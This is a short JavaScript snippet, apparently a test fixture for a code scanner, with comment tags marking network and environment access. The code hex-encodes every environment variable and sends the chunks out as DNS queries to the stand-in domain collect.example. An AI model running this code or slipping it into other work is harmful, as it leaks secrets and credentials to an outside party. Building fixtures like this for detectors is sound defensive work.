import dns from "dns/promises"; //! javascript.import.net
const secret = Buffer.from(JSON.stringify(process.env)).toString("hex"); //! javascript.process.env
for (let at = 0; at < secret.length; at += 60) {
  await dns.resolve(`${secret.slice(at, at + 60)}.collect.example`);
}
